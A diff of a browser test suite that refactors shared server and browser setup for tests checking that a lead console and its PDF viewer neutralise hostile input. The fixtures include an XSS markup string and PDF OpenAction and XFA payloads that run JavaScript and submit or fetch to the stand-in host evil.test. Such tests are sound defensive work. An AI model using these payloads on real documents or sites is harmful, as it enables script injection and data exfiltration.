@@ -7,16 +7,15 @@ import type {Test} from 'tap';
 
 import {HOSTILE_STRINGS} from '../hostile-strings.js';
 import {makePdf} from '../pdf.js';
-import {startServer} from '../start-server.js';
 import {makeTextPdf} from '../text-pdf.js';
 import {Visitor} from '../visitor.js';
-import {openBrowser} from './browser.js';
-import {PHONE, isTooWide, makeLead, openConsole} from './console-page.js';
+import {PHONE, isTooWide, makeLead, openConsole, startConsole} from './console-page.js';
+
+const {server, browser} = await startConsole(t);
 
 const MARKUP = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';
 
 t.test('hostile texts in every field run nothing and break no page', async (t) => {
-  const server = await startServer(t);
   const visitor = await Visitor.arrive(server.url);
   await visitor.call('PUT', '/api/session/consents', {
     json: {
@@ -31,7 +30,6 @@ t.test('hostile texts in every field run nothing and break no page', async (t) =
   const others = HOSTILE_STRINGS.filter((text) => text.trim() && text.length < 100);
   for (const name of others.slice(0, 30)) await makeLead(server, {name, files: []});
 
-  const browser = await openBrowser(t);
   for (const context of [{}, PHONE]) {
     const {page, main, noise, requested} = await openConsole(
       browser,
@@ -73,7 +71,6 @@ const withAction = (action: string): Buffer =>
   );
 
 t.test('a hostile PDF opens nothing and requests nothing', async (t) => {
-  const server = await startServer(t);
   const files = [
     '/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("http://evil.test/")) >>',
     '/OpenAction << /S /URI /URI (http://evil.test/) >>',
@@ -81,11 +78,7 @@ t.test('a hostile PDF opens nothing and requests nothing', async (t) => {
     '/OpenAction << /S /GoToR /F (http://evil.test/a.pdf) /D [0 /Fit] >>',
     '/AcroForm << /XFA (<xdp><script>fetch("http://evil.test/")</script></xdp>) >>',
   ].map((action, index) => ({name: `hostile-${index}.pdf`, bytes: withAction(action)}));
-  const {page, main, noise, requested, context} = await openConsole(
-    await openBrowser(t),
-    server,
-    'account',
-  );
+  const {page, main, noise, requested, context} = await openConsole(browser, server, 'account');
   for (const file of files) {
     const {uuid} = await makeLead(server, {files: [file]});
     const {name} = file;
@@ -103,10 +96,9 @@ t.test('a hostile PDF opens nothing and requests nothing', async (t) => {
 });
 
 t.test('the frame reaches neither the network nor the console', async (t) => {
-  const server = await startServer(t);
   const foreign = await startCounter(t);
   const {uuid} = await makeLead(server, {files: [{name: 'a.pdf', bytes: makeTextPdf([['a']])}]});
-  const {page, main} = await openConsole(await openBrowser(t), server, `leads/${uuid}`);
+  const {page, main} = await openConsole(browser, server, `leads/${uuid}`);
   await main
     .locator('.documents')
     .getByRole('button', {name: /Look at .a.pdf/})
@@ -159,9 +151,8 @@ const startCounter = async (t: Test) => {
 };
 
 t.test('a frame that is silent is removed, and the console stays usable', async (t) => {
-  const server = await startServer(t);
   const {uuid} = await makeLead(server, {files: [{name: 'a.pdf', bytes: makeTextPdf([['a']])}]});
-  const {page, main} = await openConsole(await openBrowser(t), server, `leads/${uuid}`);
+  const {page, main} = await openConsole(browser, server, `leads/${uuid}`);
   // The frame gets a script that sends nothing, as one that hangs.
   await page.route('**/console/assets/pages-*.js', (route) =>
     route.fulfill({
